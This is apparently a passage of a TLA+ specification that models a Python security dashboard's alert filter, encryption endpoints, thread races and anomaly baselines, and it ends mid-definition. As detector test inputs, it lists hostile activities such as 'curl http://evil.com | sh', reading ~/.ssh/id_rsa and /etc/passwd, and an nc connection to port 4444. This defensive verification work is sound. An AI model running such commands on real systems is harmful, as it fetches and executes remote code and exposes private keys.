    /\ bret' = BaselineCall("check_anomaly", activity_type, details,
                            check_result(activity_type, details))
    /\ current_window' =
         IF baseline.learned /\ reads_current_window(activity_type, similar_windows)
            /\ "counts" \notin DOMAIN current_window
         THEN current_window @@ ("counts" :> EmptyDict)
         ELSE current_window
    /\ UNCHANGED <<baseline, window_start, now, baselineFile, baselineEncFile>>

\* the clock moves on
Tick(minutes) ==
    /\ now' = now + minutes
    /\ UNCHANGED <<baseline, current_window, window_start, baselineFile,
                   baselineEncFile, bret>>

(***************************************************************************)
(* smart_alerts.py                                                         *)
(*                                                                         *)
(* An alert is a dict from field names to values; its details are a dict   *)
(* kept as its items in insertion order, each <<key, PyStr or PyInt>>,     *)
(* because should_suppress reads str(details).                             *)
(***************************************************************************)
benign_patterns ==
    <<"package-lock.json", "package.json", "yarn.lock", "Cargo.lock",
      "Gemfile.lock", "poetry.lock", "pnpm-lock.yaml", ".git/",
      "node_modules/", "__pycache__/", ".pyc", ".npm/", ".cache/",
      ".DS_Store", ".Trash", "Library/Caches", "Library/Preferences",
      "/var/folders/", "/tmp/",
      ".vscode/", ".idea/", "*.swp", ".eslintcache">>

\* repr() of a str without quotes or escapes, and of an int
repr(value) == IF value.t = "int" THEN IntToStr(value.v) ELSE "'" \o value.v \o "'"

\* str() of a dict: its items as repr(key): repr(value), in insertion order
str_of_dict(items) ==
    "{" \o join(", ", [i \in 1..Len(items) |->
                          "'" \o items[i][1] \o "': " \o repr(items[i][2])])
        \o "}"

\* items.get(key, default) on a dict kept as its items
items_get(items, key, default) ==
    IF \E i \in 1..Len(items) : items[i][1] = key
    THEN items[CHOOSE i \in 1..Len(items) : items[i][1] = key][2]
    ELSE default

\* the first member of a list that satisfies hit, or None
first_match(list, hit(_)) ==
    IF \E i \in 1..Len(list) : hit(list[i])
    THEN [found |-> list[CHOOSE i \in 1..Len(list) :
                            hit(list[i]) /\ \A j \in 1..(i - 1) : ~hit(list[j])]]
    ELSE None

empty_learned ==
    [dismissed_patterns |-> <<>>, known_safe_processes |-> <<>>,
     known_safe_paths |-> <<>>, suppressed_categories |-> <<>>,
     last_updated |-> None]

\* json.dumps / json.loads of the learned dict: lists of str, and a stamp
\* that is null or a string
learned_dumps(l) ==
    [j |-> "object",
     dismissed_patterns |-> [j |-> "array", v |-> l.dismissed_patterns],
     known_safe_processes |-> [j |-> "array", v |-> l.known_safe_processes],
     known_safe_paths |-> [j |-> "array", v |-> l.known_safe_paths],
     suppressed_categories |-> [j |-> "array", v |-> l.suppressed_categories],
     last_updated |-> l.last_updated]
learned_loads(doc) ==
    [dismissed_patterns |-> doc.dismissed_patterns.v,
     known_safe_processes |-> doc.known_safe_processes.v,
     known_safe_paths |-> doc.known_safe_paths.v,
     suppressed_categories |-> doc.suppressed_categories.v,
     last_updated |-> doc.last_updated]

_load_learned == IF learnedFile # None THEN learned_loads(learnedFile) ELSE empty_learned

AlertCall(op, arg, result) == [op |-> op, arg |-> arg, result |-> result]

\* SmartAlertFilter()
ConstructFilter ==
    /\ learned' = _load_learned
    /\ aret' = AlertCall("__init__", None, None)
    /\ UNCHANGED learnedFile

\* _save_learned after the learned dict became l
_save_learned(l) ==
    LET stamped == [l EXCEPT !.last_updated = [isoformat |-> now]]
    IN /\ learned' = stamped
       /\ learnedFile' = learned_dumps(stamped)

Suppress(reason) == [suppress |-> TRUE, reason |-> reason]
NoSuppress == [suppress |-> FALSE, reason |-> ""]

\* the five rules of should_suppress, each None or the verdict it returns
benign_rule(alert) ==
    LET title == dict_get(alert, "title", "")
        description == dict_get(alert, "description", "")
        details == str_of_dict(dict_get(alert, "details", <<>>))
        hit(pattern) == \/ Contains(title, pattern)
                        \/ Contains(description, pattern)
                        \/ Contains(details, pattern)
        m == first_match(benign_patterns, hit)
    IN IF m = None THEN None ELSE Suppress("Matches benign pattern: " \o m.found)

dismissed_rule(alert) ==
    LET title == dict_get(alert, "title", "")
        description == dict_get(alert, "description", "")
        hit(dismissed) == Contains(title, dismissed) \/ Contains(description, dismissed)
        m == first_match(learned.dismissed_patterns, hit)
    IN IF m = None THEN None ELSE Suppress("Previously dismissed: " \o m.found)

process_rule(alert) ==
    LET details == dict_get(alert, "details", <<>>)
        process == items_get(details, "process", items_get(details, "tool_name", PyStr("")))
    IN IF /\ process.t = "str"
          /\ \E i \in 1..Len(learned.known_safe_processes) :
                learned.known_safe_processes[i] = process.v
       THEN Suppress("Known safe process: " \o process.v)
       ELSE None

path_rule(alert) ==
    LET details == dict_get(alert, "details", <<>>)
        path == items_get(details, "path", items_get(details, "file", PyStr("")))
        hit(safe_path) == Contains(path.v, safe_path)
        m == first_match(learned.known_safe_paths, hit)
    IN IF m = None THEN None ELSE Suppress("Known safe path: " \o m.found)

category_rule(alert) ==
    LET details == dict_get(alert, "details", <<>>)
    IN IF dict_get(alert, "category", "") = "behavioral_anomaly"
       THEN Suppress("Suppressed rate-based alert: "
                     \o items_get(details, "activity_type", PyStr("")).v)
       ELSE None

\* a rule's verdict when it returns one, else what the code goes on to
or_else(verdict, rest) == IF verdict # None THEN verdict ELSE rest

\* the alerts handed to the filter
Alert(title, category, description, details) ==
    ("title" :> title) @@ ("category" :> category)
        @@ ("description" :> description) @@ ("details" :> details)

Alerts ==
    {Alert("File Modified", "file_modification",
           "node_modules/lodash/index.js was modified", <<>>),
     Alert("File Created", "file_modification", "New file in .git/objects",
           << <<"path", PyStr("/project/.git/objects/abc123")>> >>),
     Alert("Suspicious Network Connection", "network", "Connection to unknown IP",
           << <<"host", PyStr("192.168.1.100")>>, <<"port", PyInt(4444)>>,
              <<"process", PyStr("nc")>> >>),
     Alert("Activity Pattern Changed", "behavioral_anomaly", "Unusual activity rate",
           << <<"activity_type", PyStr("READ")>> >>),
     Alert("Custom Alert: Test Pattern", "behavioral_anomaly", "",
           << <<"tool_name", PyStr("my_safe_process")>>,
              <<"file", PyStr("/home/user/safe_project/src/file.py")>> >>),
     Alert("Process Activity", "process", "",
           << <<"process", PyStr("my_safe_process")>> >>),
     Alert("File Modified", "file", "",
           << <<"path", PyStr("/home/user/safe_project/src/file.py")>> >>),
     Alert("Lockfile Modified: package-lock.json", "file_modification",
           "Package lockfile was modified",
           << <<"path", PyStr("/project/package-lock.json")>>,
              <<"process", PyStr("npm")>> >>),
     Alert(" : disk almost full", "custom", "", <<>>),
     ("title" :> "MyCustomPattern detected") @@ ("category" :> "custom")}

\* benign_rule, tabulated over Alerts
benign_verdict_of == [a \in Alerts |-> benign_rule(a)]

\* a slip: the category rule is tried first
should_suppress_category_first(alert) ==
    or_else(category_rule(alert),
    or_else(benign_verdict_of[alert],
    or_else(dismissed_rule(alert),
    or_else(process_rule(alert),
    or_else(path_rule(alert), NoSuppress)))))

\* a slip: the category rule is missing
should_suppress_no_category(alert) ==
    or_else(benign_verdict_of[alert],
    or_else(dismissed_rule(alert),
    or_else(process_rule(alert),
    or_else(path_rule(alert), NoSuppress))))

\* what should_suppress(alert) returns: the verdict of the first rule that has one
should_suppress(alert) ==
    or_else(benign_verdict_of[alert],
    or_else(dismissed_rule(alert),
    or_else(process_rule(alert),
    or_else(path_rule(alert),
    or_else(category_rule(alert), NoSuppress)))))

\* a call of should_suppress
ShouldSuppress(alert) ==
    /\ aret' = AlertCall("should_suppress", alert, should_suppress(alert))
    /\ UNCHANGED <<learned, learnedFile>>

\* title.split(':')[0]
before_colon(title) ==
    LET colons == {i \in 1..Len(title) : Ch(title, i) = ":"}
    IN IF colons = {} THEN title
       ELSE SubSeq(title, 1, (CHOOSE i \in colons : \A j \in colons : i <= j) - 1)

\* a slip: the pattern is stored in lower case
learned_pattern_lowercased(title) ==
    IF Contains(title, "Activity Pattern") THEN None
    ELSE [pattern |-> lower(IF Contains(title, ":") THEN strip(before_colon(title))
                                                    ELSE title)]

\* the pattern learn_from_dismissal takes from a title, or None when it returns early
learned_pattern(title) ==
    IF Contains(title, "Lockfile") THEN [pattern |-> "Lockfile"]
    ELSE IF Contains(title, "Activity Pattern") THEN None
    ELSE [pattern |-> IF Contains(title, ":") THEN strip(before_colon(title)) ELSE title]

\* x in list
in_list(x, list) == \E i \in 1..Len(list) : list[i] = x

learn_from_dismissal(alert) ==
    LET p == learned_pattern(dict_get(alert, "title", ""))
    IN /\ IF p # None /\ p.pattern # "" /\ ~in_list(p.pattern, learned.dismissed_patterns)
          THEN _save_learned([learned EXCEPT !.dismissed_patterns = Append(@, p.pattern)])
          ELSE UNCHANGED <<learned, learnedFile>>
       /\ aret' = AlertCall("learn_from_dismissal", alert, None)

mark_process_safe(process) ==
    /\ IF ~in_list(process, learned.known_safe_processes)
       THEN _save_learned([learned EXCEPT !.known_safe_processes = Append(@, process)])
       ELSE UNCHANGED <<learned, learnedFile>>
    /\ aret' = AlertCall("mark_process_safe", process, None)

mark_path_safe(path) ==
    /\ IF ~in_list(path, learned.known_safe_paths)
       THEN _save_learned([learned EXCEPT !.known_safe_paths = Append(@, path)])
       ELSE UNCHANGED <<learned, learnedFile>>
    /\ aret' = AlertCall("mark_path_safe", path, None)

clear_learned ==
    /\ _save_learned(empty_learned)
    /\ aret' = AlertCall("clear_learned", None, None)

InitAlerts ==
    /\ learnedFile = None
    /\ learned = empty_learned
    /\ aret = AlertCall("__init__", None, None)

(***************************************************************************)
(* app.py: the encryption endpoints and the start of the process.          *)
(*                                                                         *)
(* get_encryption() and get_baseline() are the two singletons; the monitor *)
(* thread makes the baseline when the process starts.                      *)
(***************************************************************************)
\* a request and the status of its response
Response(op, arg, status) == [op |-> op, arg |-> arg, status |-> status]

\* how unlock(passphrase) ends and the key the component holds afterwards
unlock_result(passphrase) ==
    IF ~config.enabled
    THEN [ret |-> "True", val |-> None, key |-> derived_key]
    ELSE LET key == _derive_key(passphrase, b64decode(config.salt))
         IN IF ~key.ok
            THEN [ret |-> "raise", val |-> key.v, key |-> derived_key]
            ELSE IF sha256(key.v) # config.verification_hash
                 THEN [ret |-> "False", val |-> None, key |-> derived_key]
                 ELSE [ret |-> "True", val |-> None, key |-> key.v]

\* python app.py: a new process reads the config, holds no key, and its
\* monitor thread makes the baseline from the files on disk
Start ==
    /\ Construct
    /\ baseline' = load_baseline_with(_load_config.enabled, None,
                                      baselineFile, baselineEncFile)
    /\ current_window' = EmptyDict
    /\ window_start' = now
    /\ bret' = BaselineCall("__init__", "", EmptyDict, None)
    /\ hret' = None
    /\ UNCHANGED <<now, baselineFile, baselineEncFile>>

\* POST /api/encryption/setup
api_encryption_setup(passphrase) ==
    IF Len(passphrase) < MinPassphraseLen
    THEN /\ hret' = Response("setup", passphrase, 400)
         /\ UNCHANGED <<cryptoVars, baselineVars>>
    ELSE /\ setup(passphrase)
         /\ IF cret'.ret = "True"
            THEN /\ save_baseline_with(config'.enabled, derived_key', baseline)
                 /\ hret' = Response("setup", passphrase, 200)
            ELSE /\ hret' = Response("setup", passphrase, 500)
                 /\ UNCHANGED <<baselineFile, baselineEncFile>>
         /\ UNCHANGED <<now, baseline, current_window, window_start, bret>>

\* POST /api/encryption/unlock
api_encryption_unlock(passphrase) ==
    /\ unlock(passphrase)
    /\ IF cret'.ret = "True"
       THEN /\ baseline' = load_baseline_with(config'.enabled, derived_key',
                                             baselineFile, baselineEncFile)
            /\ hret' = Response("unlock", passphrase, 200)
       ELSE /\ hret' = Response("unlock", passphrase,
                                IF cret'.ret = "raise" THEN 500 ELSE 401)
            /\ UNCHANGED baseline
    /\ UNCHANGED <<now, current_window, window_start, baselineFile,
                   baselineEncFile, bret>>

\* POST /api/encryption/lock
api_encryption_lock ==
    /\ lock
    /\ hret' = Response("lock", "", 200)
    /\ UNCHANGED baselineVars

\* POST /api/encryption/disable
api_encryption_disable(passphrase) ==
    LET locked == is_enabled /\ ~is_unlocked
        r == unlock_result(passphrase)
    IN IF locked /\ r.ret # "True"
       THEN /\ cret' = Call("unlock", passphrase, r.ret, r.val)
            /\ hret' = Response("disable", passphrase,
                                IF r.ret = "raise" THEN 500 ELSE 401)
            /\ UNCHANGED <<mode, config, configFile, derived_key, stored,
                           baselineVars>>
       ELSE /\ disable
            /\ save_baseline_with(config'.enabled, derived_key', baseline)
            /\ hret' = Response("disable", passphrase, 200)
            /\ UNCHANGED <<now, baseline, current_window, window_start, bret>>

\* the threads that call into the components at the same time
Threads == {"t1", "t2"}

\* where a thread's call is (at), what it is (op, arg), the key it found held
\* at its guard, the key it used afterwards, and how it ended (ret, val)
InFlight(at, op, arg, held, used, ret, val) ==
    [at |-> at, op |-> op, arg |-> arg, held |-> held, used |-> used,
     ret |-> ret, val |-> val]
Idle == InFlight("idle", "", None, None, None, "", None)

InitApp == hret = None /\ calls = [t \in Threads |-> Idle]

(***************************************************************************)
(* Calls made by threads at the same time.  Nothing in crypto.py, trust.py *)
(* or app.py takes a lock, so a thread may be scheduled between any two    *)
(* statements of another: a call is modelled by one step for each          *)
(* statement that reads or writes shared state.                            *)
(***************************************************************************)
\* encrypt(data) up to its guard: `if not self._derived_key: raise`
encrypt_guard(t, data) ==
    /\ calls[t].at = "idle"
    /\ IF derived_key = None
       THEN /\ calls' = [calls EXCEPT ![t] =
                   InFlight("done", "encrypt", data, None, None, "raise", NotUnlocked)]
            /\ cret' = Call("encrypt", "", "raise", NotUnlocked)
       ELSE /\ calls' = [calls EXCEPT ![t] =
                   InFlight("guarded", "encrypt", data, derived_key, None, "", None)]
            /\ UNCHANGED cret
    /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>

\* encrypt(data) past its guard: json.dumps, os.urandom, and then the key
\* is read again to seal; bytes cannot be added to None, nor AESGCM made of it
encrypt_seal(t) ==
    /\ calls[t].at = "guarded" /\ calls[t].op = "encrypt"
    /\ IF derived_key = None /\ mode # "pycryptodome"
       THEN /\ calls' = [calls EXCEPT ![t] =
                   InFlight("done", "encrypt", @.arg, @.held, None,
                            "raise", [exc |-> "TypeError"])]
            /\ cret' = Call("encrypt", "", "raise", [exc |-> "TypeError"])
            /\ UNCHANGED stored
       ELSE \E nonce \in Nonces :
              LET raw == encrypt_raw(derived_key, json_dumps(calls[t].arg), nonce)
              IN IF ~raw.ok
                 THEN /\ calls' = [calls EXCEPT ![t] =
                             InFlight("done", "encrypt", @.arg, @.held, derived_key,
                                      "raise", raw.v)]
                      /\ cret' = Call("encrypt", "", "raise", raw.v)
                      /\ UNCHANGED stored
                 ELSE /\ calls' = [calls EXCEPT ![t] =
                             InFlight("done", "encrypt", @.arg, @.held, derived_key,
                                      "value", b64encode(raw.v))]
                      /\ cret' = Call("encrypt", "", "value", b64encode(raw.v))
                      /\ stored' = [blob |-> b64encode(raw.v), data |-> calls[t].arg]
    /\ UNCHANGED <<mode, config, configFile, derived_key>>

\* decrypt(encrypted) up to its guard
decrypt_guard(t, encrypted) ==
    /\ calls[t].at = "idle"
    /\ IF derived_key = None
       THEN /\ calls' = [calls EXCEPT ![t] =
                   InFlight("done", "decrypt", encrypted, None, None, "raise", NotUnlocked)]
            /\ cret' = Call("decrypt", "", "raise", NotUnlocked)
       ELSE /\ calls' = [calls EXCEPT ![t] =
                   InFlight("guarded", "decrypt", encrypted, derived_key, None, "", None)]
            /\ UNCHANGED cret
    /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>

\* decrypt(encrypted) past its guard: base64 decoding, and then the key is
\* read again to verify or open; what raises there is caught and None returned
decrypt_open(t) ==
    /\ calls[t].at = "guarded" /\ calls[t].op = "decrypt"
    /\ LET encrypted == calls[t].arg
           reads == encrypted # Garbage
                    /\ (b64decode(encrypted).magic = "HMAC" \/ mode = "cryptography")
           out == IF encrypted = Garbage \/ (reads /\ derived_key = None) THEN None
                  ELSE decrypt_raw(derived_key, b64decode(encrypted))
       IN /\ calls' = [calls EXCEPT ![t] =
                 InFlight("done", "decrypt", @.arg, @.held,
                          IF reads THEN derived_key ELSE @.held,
                          IF out = None THEN "None" ELSE "value", out)]
          /\ cret' = Call("decrypt", IF encrypted = Garbage THEN "garbage" ELSE "stored",
                          IF out = None THEN "None" ELSE "value", out)
    /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>

\* trust_session(session_id), its first statement: the set takes the id
trust_add(t, session_id) ==
    /\ calls[t].at = "idle"
    /\ Cardinality(trusted_sessions \cup {session_id}) <= MaxTrusted
    /\ trusted_sessions' = trusted_sessions \cup {session_id}
    /\ calls' = [calls EXCEPT ![t] =
            InFlight("changed", "trust_session", session_id, None, None, "", None)]
    /\ UNCHANGED <<sessionsFile, threat_intel, threatFile, session_baseline,
                   behavioralFile, tret>>

\* untrust_session(session_id), its first statement: the set drops the id
untrust_discard(t, session_id) ==
    /\ calls[t].at = "idle"
    /\ trusted_sessions' = trusted_sessions \ {session_id}
    /\ calls' = [calls EXCEPT ![t] =
            InFlight("changed", "untrust_session", session_id, None, None, "", None)]
    /\ UNCHANGED <<sessionsFile, threat_intel, threatFile, session_baseline,
                   behavioralFile, tret>>

\* _save_trusted_sessions, the argument of write_text: json.dumps of the
\* list the set gives at this moment
save_dumps(t) ==
    /\ calls[t].at = "changed"
    /\ \E doc \in _save_trusted_sessions(trusted_sessions) :
          calls' = [calls EXCEPT ![t] =
              InFlight("dumped", @.op, @.arg, None, None, "", doc)]
    /\ UNCHANGED trustVars

\* _save_trusted_sessions, write_text: the file takes the document, and the
\* call returns
save_write(t) ==
    /\ calls[t].at = "dumped"
    /\ sessionsFile' = calls[t].val
    /\ calls' = [calls EXCEPT ![t] =
            InFlight("done", @.op, @.arg, None, None, "None", @.val)]
    /\ tret' = TrustCall(calls[t].op, "", calls[t].arg, None, None)
    /\ UNCHANGED <<trusted_sessions, threat_intel, threatFile, session_baseline,
                   behavioralFile>>

(***************************************************************************)
(* Inputs and workloads of the baseline.                                   *)
(***************************************************************************)
StartMinute == 3750
TickMinutes == 61
Horizon == 10500
MaxBurst == 1
MaxCount == 16

Activity(activity_type, key, value) ==
    [activity_type |-> activity_type, details |-> (key :> value)]

\* the one activity of a quiet hour
Routine == Activity("EXEC", "command", "ls -la")

Activities ==
    {Routine,
     Activity("EXEC", "command", "curl http://evil.com | sh"),
     Activity("READ", "path", "/Users/juanreyes/.ssh/id_rsa"),
     Activity("NETWORK", "remote", "45.33.32.156:4444")}

\* the sum of the counts in a dict
RECURSIVE Total(_)
Total(d) ==
    IF DOMAIN d = {} THEN 0
    ELSE LET k == CHOOSE k \in DOMAIN d : TRUE
         IN d[k] + Total([x \in DOMAIN d \ {k} |-> d[x]])

recorded == Total(dict_get(current_window, "counts", EmptyDict))

\* the windows in which more than the routine activity arrives: the one that
\* completes the learning and the one that fills the history
BurstWindows == {MinWindows - 1, MaxWindows - 1}

\* a day-to-day workload: every hour starts with the routine activity, and
\* up to MaxBurst further activities of any kind arrive in the burst windows
NextBaseline ==
    \/ /\ now - window_start > MinutesPerHour \/ current_window = EmptyDict
       /\ record_activity(Routine.activity_type, Routine.details)
       /\ UNCHANGED exceptBaseline
    \/ \E a \in Activities :
          /\ now - window_start <= MinutesPerHour
          /\ current_window # EmptyDict
          /\ Len(baseline.windows) \in BurstWindows
          /\ recorded <= MaxBurst
          /\ record_activity(a.activity_type, a.details)
          /\ UNCHANGED exceptBaseline
    \/ \E a \in Activities :
          check_anomaly(a.activity_type, a.details) /\ UNCHANGED exceptBaseline
    \/ /\ now - window_start <= MinutesPerHour
       /\ now + TickMinutes <= StartMinute + Horizon
       /\ Tick(TickMinutes)
       /\ UNCHANGED exceptBaseline

InitBaseline ==
    /\ now = StartMinute
    /\ baselineFile = None
    /\ baselineEncFile = None
    /\ baseline = _default_baseline
    /\ current_window = EmptyDict
    /\ window_start = StartMinute
    /\ bret = BaselineCall("__init__", "", EmptyDict, None)

\* the baseline from an empty disk, encryption never set up
InitBaselineSpec ==
    InitBaseline /\ InitCrypto /\ mode = "cryptography" /\ InitTrust /\ InitAlerts
    /\ InitApp

SpecBaseline == InitBaselineSpec /\ [][NextBaseline]_vars

\* seeded histories: hourly windows ending an hour before the start, as
\* test_baseline.py writes them, with these EXEC counts per window; "days"
\* holds three days of windows, the others one
SeedNames == {"test", "ones", "sparse", "heavy", "none", "days"}
seed_exec(name, i) ==
    CASE name = "test" -> 3 + (i % 4)
      [] name = "ones" -> 1
      [] name = "sparse" -> IF i = 0 THEN 1 ELSE 0
      [] name = "heavy" -> 5
      [] name = "none" -> 0
      [] name = "days" -> 1 + (i % 3)

seed_len(name) == IF name = "days" THEN SimilarMin * HoursPerDay ELSE LastWindows

seed_window(name, i) ==
    LET window_time == StartMinute - (seed_len(name) + 1) * MinutesPerHour
                                   + i * MinutesPerHour
        exec == seed_exec(name, i)
    IN [timestamp |-> window_time,
        hour |-> hour_of(window_time),
        counts |-> IF exec = 0
                   THEN ("READ" :> 5 + (i % 3)) @@ ("WRITE" :> 2 + (i % 2)) @@ ("EDIT" :> 1)
                   ELSE ("READ" :> 5 + (i % 3)) @@ ("WRITE" :> 2 + (i % 2))
                        @@ ("EXEC" :> exec) @@ ("EDIT" :> 1),
        commands |-> ("ls" :> 2) @@ ("cat" :> 2) @@ ("grep" :> 1) @@ ("cd" :> 1),
        directories |-> ("/Users/juanreyes/clawd" :> 3)
                        @@ ("/Users/juanreyes/clawd/security" :> 2)
                        @@ ("/Users/juanreyes" :> 1),
        network |-> ("api.anthropic.com:443" :> 2) @@ ("api.telegram.org:443" :> 1)]

seed_baseline(name) ==
    [windows |-> [i \in 1..seed_len(name) |-> seed_window(name, i - 1)],
     learned |-> TRUE,
     min_windows |-> MinWindows]

SpikeActivities ==
    {Activity("EXEC", "command", "echo test"),
     Activity("WRITE", "path", "notes.txt")}

CheckedActivities ==
    Activities \cup SpikeActivities
        \cup {Activity("EXEC", "command", " "),
              Activity("READ", "path", "/Users/juanreyes/clawd/test.txt"),
              Activity("NETWORK", "remote", "192.168.1.20:22")}

\* a spike: any number of activities up to MaxCount within the hour
NextAnomaly ==
    \/ \E a \in SpikeActivities :
          /\ recorded < MaxCount
          /\ record_activity(a.activity_type, a.details)
          /\ UNCHANGED exceptBaseline
    \/ \E a \in CheckedActivities :
          check_anomaly(a.activity_type, a.details) /\ UNCHANGED exceptBaseline

\* a process started on a seeded baseline file
InitAnomalySpec ==
    /\ now = StartMinute
    /\ baselineFile \in {baseline_dumps(seed_baseline(name)) : name \in SeedNames}
    /\ baselineEncFile = None
    /\ baseline = baseline_loads(baselineFile)
    /\ current_window = EmptyDict
    /\ window_start = StartMinute
    /\ bret = BaselineCall("__init__", "", EmptyDict, None)
    /\ InitCrypto /\ mode = "cryptography" /\ InitTrust /\ InitAlerts /\ InitApp

SpecAnomaly == InitAnomalySpec /\ [][NextAnomaly]_vars

(***************************************************************************)
(* Inputs of the alert filter.                                             *)
(***************************************************************************)
\* the alerts the operator dismisses
DismissedAlerts ==
    {a \in Alerts : dict_get(a, "category", "") \in {"custom", "behavioral_anomaly"}}
       \cup {a \in Alerts : startswith(dict_get(a, "title", ""), "Lockfile")}

SafeProcesses == {"my_safe_process", "nc"}
SafePaths == {"/home/user/safe_project"}

NextAlerts ==
    \/ ConstructFilter /\ UNCHANGED exceptAlerts
    \/ \E a \in Alerts : ShouldSuppress(a) /\ UNCHANGED exceptAlerts
    \/ \E a \in DismissedAlerts : learn_from_dismissal(a) /\ UNCHANGED exceptAlerts
    \/ \E p \in SafeProcesses : mark_process_safe(p) /\ UNCHANGED exceptAlerts
    \/ \E p \in SafePaths : mark_path_safe(p) /\ UNCHANGED exceptAlerts
    \/ clear_learned /\ UNCHANGED exceptAlerts

\* the filter with no learned_patterns.json on disk
InitAlertsSpec ==
    InitAlerts /\ InitCrypto /\ mode = "cryptography" /\ InitTrust /\ InitBaseline
    /\ InitApp

SpecAlerts == InitAlertsSpec /\ [][NextAlerts]_vars

(***************************************************************************)
(* Specifications: one per component, the other components left idle.       *)
(***************************************************************************)
NextCrypto ==
    \/ Construct /\ UNCHANGED exceptCrypto
    \/ \E p \in Passphrases : setup(p) /\ UNCHANGED exceptCrypto
    \/ \E p \in Passphrases : unlock(p) /\ UNCHANGED exceptCrypto
    \/ lock /\ UNCHANGED exceptCrypto
    \/ disable /\ UNCHANGED exceptCrypto
    \/ \E d \in DataValues : encrypt(d) /\ UNCHANGED exceptCrypto
    \/ \E e \in DecryptInputs : decrypt(e) /\ UNCHANGED exceptCrypto

\* the encryption component from a fresh start, whichever import succeeded
InitCryptoSpec == InitCrypto /\ InitTrust /\ InitBaseline /\ InitAlerts /\ InitApp

SpecCrypto == InitCryptoSpec /\ [][NextCrypto]_vars

NextTrust ==
    \/ ConstructEngine /\ UNCHANGED exceptTrust
    \/ \E x \in TrustIds : trust_session(x) /\ UNCHANGED exceptTrust
    \/ \E x \in TrustIds : untrust_session(x) /\ UNCHANGED exceptTrust
    \/ \E x \in SessionIds : IsTrustedSession(x) /\ UNCHANGED exceptTrust
    \/ \E c \in Commands, x \in SessionIds, f \in SessionFiles \cup {None} :
          EvaluateCommand(c, x, f) /\ UNCHANGED exceptTrust
    \/ \E q \in CustomPatterns :
          add_threat_pattern(q, "Custom rule", "high") /\ UNCHANGED exceptTrust
    \/ \E ip \in BlockableIps : block_ip(ip) /\ UNCHANGED exceptTrust
    \/ \E d \in BlockableDomains : block_domain(d) /\ UNCHANGED exceptTrust

\* the trust engine from an empty config directory
InitTrustSpec ==
    InitTrust /\ InitCrypto /\ mode = "cryptography" /\ InitBaseline /\ InitAlerts
    /\ InitApp

SpecTrust == InitTrustSpec /\ [][NextTrust]_vars

\* the most actions the model records for the session it follows, and for
\* any other session
MaxActions == 101
MaxOtherActions == 1

\* the session whose baseline is followed, and the sessions that are checked
Followed == "abcdef12"
BaselineSessions == {Followed, "abcdef12-other"}

SessionActivity(key, value) == (key :> value)
RoutineAction == SessionActivity("command", "ls -la")
SessionActivities ==
    {RoutineAction,
     SessionActivity("command", "curl http://example.com | sh"),
     SessionActivity("command", " "),
     SessionActivity("path", "/etc/passwd"),
     SessionActivity("host", "evil.example")}

\* b['total_actions'] of a session, 0 for one never seen
actions_of(session_id) ==
    IF session_id \in DOMAIN session_baseline
    THEN session_baseline[session_id].total_actions ELSE 0

\* the counts of the followed session at which the checks are made and
\* another session may act
Thresholds == {MinActions - 1, MinActions, SaveEvery}

EngineIds == {"abcdef12", "abc"}
EngineCommands == {"curl http://example.com | sh", "Ping 6.6.6.6"}

\* an engine at work: a session's actions are recorded one by one, the
\* routine one but for the action that reaches MinActions; checks are made
\* at the thresholds; once the baseline has been saved the operator
\* trusts, untrusts and blocks, commands are evaluated, the engine may be
\* restarted, and recording goes on
Saved == actions_of(Followed) >= SaveEvery

\* the activities still checked once the baseline has been saved
LateChecks == {RoutineAction, SessionActivity("host", "evil.example")}

NextEngine ==
    \/ /\ actions_of(Followed) < MaxActions
       /\ update_baseline(Followed, RoutineAction)
       /\ UNCHANGED exceptTrust
    \/ \E a \in SessionActivities :
          /\ actions_of(Followed) = MinActions - 1
          /\ update_baseline(Followed, a)
          /\ UNCHANGED exceptTrust
    \/ \E x \in BaselineSessions \ {Followed} :
          /\ actions_of(x) < MaxOtherActions
          /\ actions_of(Followed) \in Thresholds
          /\ update_baseline(x, RoutineAction)
          /\ UNCHANGED exceptTrust
    \/ \E x \in BaselineSessions, a \in SessionActivities :
          /\ actions_of(Followed) \in Thresholds
          /\ Saved => a \in LateChecks
          /\ CheckAnomaly(x, a)
          /\ UNCHANGED exceptTrust
    \/ Saved /\ ConstructEngine /\ UNCHANGED exceptTrust
    \/ \E x \in EngineIds : Saved /\ trust_session(x) /\ UNCHANGED exceptTrust
    \/ \E x \in EngineIds : Saved /\ untrust_session(x) /\ UNCHANGED exceptTrust
    \/ \E x \in EngineIds : Saved /\ IsTrustedSession(x) /\ UNCHANGED exceptTrust
    \/ \E c \in EngineCommands, x \in EngineIds, f \in {None, RequestFile} :
          Saved /\ EvaluateCommand(c, x, f) /\ UNCHANGED exceptTrust
    \/ \E q \in CustomPatterns :
          Saved /\ add_threat_pattern(q, "Custom rule", "high") /\ UNCHANGED exceptTrust
    \/ \E ip \in BlockableIps : Saved /\ block_ip(ip) /\ UNCHANGED exceptTrust
    \/ \E d \in BlockableDomains : Saved /\ block_domain(d) /\ UNCHANGED exceptTrust

SpecEngine == InitTrustSpec /\ [][NextEngine]_vars

\* minutes the dashboard is followed for
StorageHorizon == 130

\* the dashboard: the encryption endpoints, restarts, and the monitor thread
\* recording one activity per hour
NextStorage ==
    \/ Start /\ UNCHANGED <<trustVars, alertVars, calls>>
    \/ \E p \in Passphrases :
          api_encryption_setup(p) /\ UNCHANGED <<trustVars, alertVars, calls>>
    \/ \E p \in Passphrases :
          api_encryption_unlock(p) /\ UNCHANGED <<trustVars, alertVars, calls>>
    \/ api_encryption_lock /\ UNCHANGED <<trustVars, alertVars, calls>>
    \/ \E p \in Passphrases :
          api_encryption_disable(p) /\ UNCHANGED <<trustVars, alertVars, calls>>
    \/ /\ now - window_start > MinutesPerHour \/ current_window = EmptyDict
       /\ record_activity(Routine.activity_type, Routine.details)
       /\ hret' = None
       /\ UNCHANGED <<cryptoVars, trustVars, alertVars, calls>>
    \/ /\ now - window_start <= MinutesPerHour
       /\ now + TickMinutes <= StartMinute + StorageHorizon
       /\ Tick(TickMinutes)
       /\ hret' = None
       /\ UNCHANGED <<cryptoVars, trustVars, alertVars, calls>>

\* the dashboard from an empty disk, whichever import succeeded
InitStorageSpec == InitCrypto /\ InitBaseline /\ InitTrust /\ InitAlerts /\ InitApp

SpecStorage == InitStorageSpec /\ [][NextStorage]_vars

\* no call is between its guard and its use of the key
quiet == \A t \in Threads : calls[t].at # "guarded"

\* the passphrase the operator uses here
RacePassphrases == {"testpassword123"}

\* two threads, each making one encrypt or decrypt call, while lock() may
\* come at any moment; the key is set up and unlocked between calls
NextCryptoRace ==
    \/ \E p \in RacePassphrases :
